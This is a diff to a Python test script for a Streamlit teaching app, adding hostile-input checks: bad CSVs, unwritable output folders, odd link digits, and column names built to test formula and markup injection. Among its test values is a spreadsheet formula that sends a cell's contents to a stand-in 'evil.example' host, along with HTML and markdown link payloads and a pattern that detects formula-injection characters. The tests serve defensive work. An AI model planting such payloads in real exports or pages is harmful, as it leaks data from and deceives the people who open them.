@@ -6,7 +6,12 @@ Command-line flags and hand-edited config.json files go through `memviz.cli.main
 (a traceback = an exception escaping the guard, or "Traceback" on stderr, or an exit code other
 than 2); links go to every page through Streamlit's AppTest (a traceback = an exception element,
 or an uncaught exception in the run); a few also go through `python -m memviz` as a student would
-type them. The app has no file uploads; the synapse drawing grid is covered by the tests.
+type them. Issue 31's hostile inputs come on top: CSV files (a cell inf, a missing or numeric
+date column, repeated dates, a constant series), --out folders that cannot be written (a file
+as a parent, /proc, a read-only folder) on every command, a read-only run store, links with
+non-ASCII digits and markdown in them, and user text (a column named like a formula or like
+HTML) followed into figures and every CSV the app writes. A case that exits 0 instead of being
+refused counts as "silent", one that exits 1 (not 2) as "wrong exit code".
 Prints one line per kind and a total.
 """
 
@@ -16,6 +21,7 @@ import argparse
 import contextlib
 import io
 import json
+import re
 import subprocess
 import sys
 import tempfile
@@ -139,14 +145,245 @@ def run_links(quick: bool) -> tuple[int, int]:
     return cases, tracebacks
 
 
-def main_(quick: bool) -> int:
-    """Run every kind and print the counts."""
+# ------------------------------------------------------------------ issue 31: hostile input
+
+HTML = '<a href="https://evil.example">click</a><b>bold</b>'
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
+MARKDOWN = "[click here](https://evil.example) **bold** `code` $x^2$"
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+
+
+def read_only_dir() -> Path:
+    """A folder that refuses new entries even to root: sysfs (/sys/fs) when it does, else a
+    chmod 555 temporary folder (enough for any other user)."""
+    try:
+        tempfile.TemporaryDirectory(dir="/sys/fs").cleanup()
+    except OSError:
+        return Path("/sys/fs")
+    d = Path(tempfile.mkdtemp())
+    d.chmod(0o555)
+    return d
+
+
+def series_csv(values: list, dates: list | None = None, header: str = "temp") -> str:
+    """A small date,<header>,other CSV (one row a value), quoted as a spreadsheet would."""
+    import csv
+
+    dates = dates or [f"2020-{1 + i // 28:02d}-{1 + i % 28:02d}" for i in range(len(values))]
+    buf = io.StringIO()
+    w = csv.writer(buf, lineterminator="\n")
+    w.writerow(["date", header, "other"])
+    w.writerows([d, v, i] for i, (d, v) in enumerate(zip(dates, values, strict=True)))
+    return buf.getvalue()
+
+
+def hostile_files(d: Path) -> dict[str, Path]:
+    """The CSV and config files the hostile command lines read."""
+    import math
+
+    wave = [f"{10 * math.sin(i / 5):.3f}" for i in range(60)]
+    files = {"ok": series_csv(wave), "inf": series_csv(wave[:7] + ["inf"] + wave[8:]),
+             "ninf": series_csv(wave[:20] + ["-inf"] + wave[21:]),
+             "dup": series_csv(wave, ["2020-01-01"] * 60), "const": series_csv(["5.0"] * 60)}
+    paths = {k: d / f"{k}.csv" for k in files}
+    for k, text in files.items():
+        paths[k].write_text(text)
+    paths["empty_cfg"] = d / "empty.json"
+    paths["empty_cfg"].write_text("{}")
+    return paths
+
+
+def hostile_flags(d: Path) -> list[list[str]]:
+    """Command lines whose only right answer is a one-line refusal with exit code 2."""
+    f = {**{k: str(v) for k, v in hostile_files(d).items()}, "file": str(d / "a_file"),
+         "cfg": str(d / "ok.json"), "out": str(d / "out"), "ro": str(read_only_dir())}
+    fc = ["forecast", "--epochs", "5", "--window", "3", "--target", "temp"]
+    outs = [f"{f['file']}/x", "/proc/memviz-bad-inputs", f["ro"]]
+    per_command = [["train", "--steps", "5"], ["text", "--steps", "5"],
+                   ["seq2seq", "--attention", "on", "--steps", "5"],
+                   [*fc, "--data", f["ok"], "--date-column", "date"],
+                   ["sentiment", "--steps", "10"], ["horizon", "--lags", "3", "--steps", "5"],
+                   ["export", "--config", f["cfg"], "--formats", "csv"]]
+    return [
+        *[[*cmd, "--out", out] for cmd in per_command for out in outs],
+        [*fc, "--data", f["inf"], "--date-column", "date", "--out", f["out"]],
+        [*fc, "--data", f["ninf"], "--date-column", "date", "--out", f["out"]],
+        [*fc, "--data", f["ok"], "--date-column", "nope", "--out", f["out"]],
+        [*fc, "--data", f["ok"], "--date-column", "other", "--out", f["out"]],
+        [*fc, "--data", f["dup"], "--date-column", "date", "--out", f["out"]],
+        [*fc, "--data", f["const"], "--date-column", "date", "--out", f["out"]],
+        ["forecast", "--epochs", "5", "--extra", "temp_min,temp_min", "--out", f["out"]],
+        ["export", "--config", f["cfg"], "--formats", "svg,,svg", "--out", f["out"]],
+        ["export", "--config", f["empty_cfg"], "--formats", "csv", "--out", f["out"]],
+    ]
+
+
+def outcome(args: list[str], env: dict[str, str] | None = None) -> str:
+    """'ok' (one line on stderr, exit 2), 'traceback', 'silent' (exit 0) or 'exit N'."""
+    import os
+    from unittest import mock
+
+    err = io.StringIO()
+    try:
+        with mock.patch.dict(os.environ, env or {}), contextlib.redirect_stderr(err), \
+                contextlib.redirect_stdout(io.StringIO()):
+            rc = main(args)
+    except BaseException:  # noqa: BLE001 - anything escaping the guard is a traceback
+        return "traceback"
+    if "Traceback" in err.getvalue():
+        return "traceback"
+    if rc == 0:
+        return "silent"
+    return "ok" if rc == 2 and err.getvalue().count("\n") == 1 else f"exit {rc}"
+
+
+def run_hostile_cli(d: Path) -> tuple[int, int, int]:
+    """Issue 31's command lines: (cases, tracebacks, not refused in one line with exit 2)."""
+    cases = [(args, None) for args in hostile_flags(d)]
+    cases.append((["prepare", "--page", "lstm", "--presets", "A counting cell"],
+                  {"MEMVIZ_STORE": str(read_only_dir())}))
+    results = [outcome(args, env) for args, env in cases]
+    for (args, _), r in zip(cases, results, strict=True):
+        if r != "ok":
+            print(f"    {r}: {' '.join(args)}")
+    tb = results.count("traceback")
+    print(f"hostile CLI:        {len(cases)} bad inputs, {tb} tracebacks, "
+          f"{results.count('silent')} silent exit 0, "
+          f"{sum(r.startswith('exit') for r in results)} wrong exit code")
+    return len(cases), tb, sum(r != "ok" for r in results)
+
+
+def csv_cells(data: bytes | str) -> list[str]:
+    import csv
+
+    text = data.decode() if isinstance(data, bytes) else data
+    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
+
+
+def runnable(cell: str) -> bool:
+    """A cell a spreadsheet would run as a formula (a plain number such as -1.5 is data)."""
+    return cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)
+
+
+def live_markup(fig) -> int:
+    """User HTML that plotly would render: the hostile header's tags, unescaped, in the figure."""
+    return json.dumps(fig.to_plotly_json(), default=str).count('<a href=\\"https://evil')
+
+
+def run_user_text(d: Path) -> tuple[int, int]:
+    """A CSV whose columns are named like a formula and like HTML, through the forecaster, its
+    figures, their CSV export and every other CSV the app writes: (cases, findings)."""
+    import math
+
+    from memviz import export
+    from memviz.horizon.report import results_csv
+    from memviz.horizon.sweep import HorizonConfig, sweep
+    from memviz.series import data, figures, forecast, model
+    from memviz.text import cellfinder
+
+    cases = findings = negatives = 0
+    for header in (FORMULA, HTML, "-1", "@sum(1)", "+cmd", "\tx"):
+        wave = [f"{10 * math.sin(i / 5) - 5:.3f}" for i in range(60)]
+        series = data.load_upload(series_csv(wave, header=header).encode(), header, "date")
+        cfg = forecast.ForecastConfig(series.name, header, window=3, epochs=5)
+        run = model.train(cfg)
+        for fig in (figures.forecast_vs_truth(run), figures.test_zoom(run)):
+            cases += 2
+            findings += live_markup(fig) > 0
+            cells = csv_cells(export.render(fig, "csv"))
+            findings += any(runnable(c) for c in cells)
+            negatives += any(c.startswith("'-") for c in cells)  # a number turned into text
+    from memviz.series.cli import write_outputs
+
+    write_outputs(run, d)
+    results = list(sweep(HorizonConfig(lags=(3,), archs=("rnn",), hidden=4, steps=5, batch=8)))
+    for text in ((d / "forecast.csv").read_text(), results_csv(results),
+                 cellfinder.table_csv([])):
+        cases += 1
+        findings += any(runnable(c) for c in csv_cells(text))
+    print(f"user text:          {cases} figures and CSV files, {findings} with live HTML or a "
+          f"formula cell, {negatives} with a number turned into text")
+    return cases, findings + negatives
+
+
+LINKS_REFUSED = {  # a form would refuse these: the link must be named bad, shown as text
+    "text": ["seq_len=\uff12\uff15\uff16&steps=10"],
+    "synapses": ["n=\u0663", "n=\u0663&steps=20"],
+    "lstm": ["hidden=" + MARKDOWN, "seq_len=\u0662\u0660"],
+}
+
+
+def _markdown(shown: str) -> bool:
+    """Whether a message's markdown would draw the hostile text as a link, bold, code or math:
+    an unescaped ]( ** ` or $, or a bare https:// (GFM links those even when escaped)."""
+    import re as re_
+
+    return bool(re_.search(r"(?<!\\)(\]\(|\*\*|`|\$)", shown)) or bool(
+        re_.search(r"https(\\?:)", shown))
+
+
+def run_refused_links() -> tuple[int, int]:
+    """Links that must be refused with the bad-link line, the link's text shown as text:
+    (cases, not refused or rendered as markdown)."""
+    from streamlit.testing.v1 import AppTest
+
+    cases = bad = 0
+    for page, links in LINKS_REFUSED.items():
+        for link in links:
+            at = AppTest.from_file(str(ROOT / f"pages/{page}.py"), default_timeout=300)
+            for part in link.split("&"):
+                k, v = part.split("=", 1)
+                at.query_params[k] = v
+            cases += 1
+            try:
+                at.run()
+            except Exception:  # noqa: BLE001
+                bad += 1
+                continue
+            warned = [w.value for w in at.warning]
+            bad += not warned or any(_markdown(w) for w in warned)
+    print(f"links to refuse:    {cases} bad inputs, {bad} accepted or shown as markdown")
+    return cases, bad
+
+
+def run_upload_names() -> tuple[int, int]:
+    """Unusable uploads named with markdown, on Text and Sentences: the refusal must show the
+    name as text (cases, messages that render it as markdown)."""
+    from streamlit.testing.v1 import AppTest
+
+    cases = bad = 0
+    for page, source, name in (("text", "text_source", MARKDOWN + ".txt"),
+                               ("sentences", "sentences_source", MARKDOWN + ".csv")):
+        at = AppTest.from_file(str(ROOT / f"pages/{page}.py"), default_timeout=300)
+        at.run()
+        at.radio(key=source).set_value("upload").run()
+        at.file_uploader[0].set_value((name, b"\xff\xfe\x00bad", "text/plain")).run()
+        shown = [e.value for e in (*at.error, *at.warning, *at.info)]
+        cases += 1
+        bad += not shown or any(_markdown(m) for m in shown)
+    print(f"upload names:       {cases} bad inputs, {bad} shown as markdown")
+    return cases, bad
+
+
+def main_(quick: bool, only31: bool = False) -> int:
+    """Run every kind (or only issue 31's) and print the counts."""
     with tempfile.TemporaryDirectory() as tmp:
         d = Path(tmp)
         (d / "a_file").write_text("x")
         (d / "ok.json").write_text(json.dumps(DEFAULT.to_dict()))
         paths = {"out": d / "out", "file": d / "a_file", "cfg": d / "ok.json", "dir": d}
         t0 = time.perf_counter()
+        if only31:
+            n_host, tb_host, bad_host = run_hostile_cli(d)
+            n_text, bad_text = run_user_text(d)
+            n_refused, bad_refused = run_refused_links()
+            n_names, bad_names = run_upload_names()
+            wrong = bad_host + bad_text + bad_refused + bad_names
+            print(f"issue 31: {n_host + n_text + n_refused + n_names} cases, {tb_host} "
+                  f"tracebacks, {wrong} handled wrongly (target 0) in "
+                  f"{time.perf_counter() - t0:.0f} s")
+            return 0 if wrong == 0 else 1
         flags = [run_cli([a.format(**paths) for a in f]) for f in FLAGS]
         print(f"command-line flags: {len(flags)} bad inputs, {sum(flags)} tracebacks")
         files = [run_cli(["export", "--config", str(p), "--out", str(d / "out")])
@@ -161,14 +398,23 @@ def main_(quick: bool) -> int:
         print(f"python -m memviz:   {len(shell)} bad inputs, {bad_shell} tracebacks")
         n_links, bad_links = run_links(quick)
         print(f"links (AppTest):    {n_links} bad inputs, {bad_links} tracebacks")
-    total = len(flags) + len(files) + len(shell) + n_links
-    bad = sum(flags) + sum(files) + bad_shell + bad_links
-    print(f"total: {total} bad inputs, {bad} tracebacks (target 0) in "
+        n_host, tb_host, bad_host = run_hostile_cli(d)
+        n_text, bad_text = run_user_text(d)
+        n_refused, bad_refused = run_refused_links()
+        n_names, bad_names = run_upload_names()
+        n_refused, bad_refused = n_refused + n_names, bad_refused + bad_names
+    total = len(flags) + len(files) + len(shell) + n_links + n_host + n_text + n_refused
+    bad = sum(flags) + sum(files) + bad_shell + bad_links + tb_host
+    wrong = bad_host + bad_text + bad_refused
+    print(f"total: {total} bad inputs, {bad} tracebacks (target 0); issue 31's "
+          f"{n_host + n_text + n_refused} cases: {wrong} handled wrongly (target 0); in "
           f"{time.perf_counter() - t0:.0f} s")
-    return 0 if bad == 0 else 1
+    return 0 if bad == 0 and wrong == 0 else 1
 
 
 if __name__ == "__main__":
     ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     ap.add_argument("--quick", action="store_true", help="two links per page")
-    sys.exit(main_(ap.parse_args().quick))
+    ap.add_argument("--issue31", action="store_true", help="only issue 31's hostile inputs")
+    args = ap.parse_args()
+    sys.exit(main_(args.quick, args.issue31))
